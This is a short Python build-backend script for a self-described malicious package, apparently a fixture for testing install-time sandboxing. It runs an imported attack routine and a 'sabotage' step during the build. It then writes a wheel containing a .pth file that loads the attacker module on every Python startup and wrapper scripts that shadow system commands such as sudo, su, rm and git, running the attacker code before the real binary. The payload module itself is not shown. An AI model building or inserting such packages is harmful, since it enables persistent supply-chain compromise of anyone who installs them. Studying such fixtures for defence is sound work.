"""The build script of a malicious package (PEP 517): it attacks, then builds a wheel by hand.

The wheel has programs with the names of the system's, and a file that every Python starts with.
"""

import os
import zipfile
from pathlib import Path

import attacker

NAMES = """
    busctl cat chmod chown cp env find flock git id install journalctl kill ln ls mkdir mount mv
    nice nsenter ps renice rm rmdir runuser setfacl setpriv sh stat su sudo systemctl systemd-run
    tar timeout unshare uv
""".split()
SCRIPT = """#!/bin/sh
/usr/bin/python3 -I {module} program {name}
exec /usr/bin/{name} "$@"
"""


def build_wheel(directory: str, settings: object = None, metadata: object = None) -> str:
    """Attack, and build the wheel."""
    attacker.attack("build")
    release = Path.cwd().parent
    attacker.spoil(release, Path("sabotage").read_text().strip())
    name = "attacker-1.0-py3-none-any.whl"
    info = "attacker-1.0.dist-info"
    module = f"{release}/attacker/attacker.py"
    files = {
        "attacker.py": Path("attacker.py").read_text(),
        "attacker_start.pth": "import attacker; attacker.started()\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: attacker\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    for each in NAMES:
        text = SCRIPT.format(module=module, name=each)
        files[f"attacker-1.0.data/scripts/{each}"] = text
    record = "".join(f"{path},,\n" for path in [*files, f"{info}/RECORD"])
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        for path, text in {**files, f"{info}/RECORD": record}.items():
            member = zipfile.ZipInfo(path)
            member.external_attr = 0o100755 << 16
            wheel.writestr(member, text)
    return name
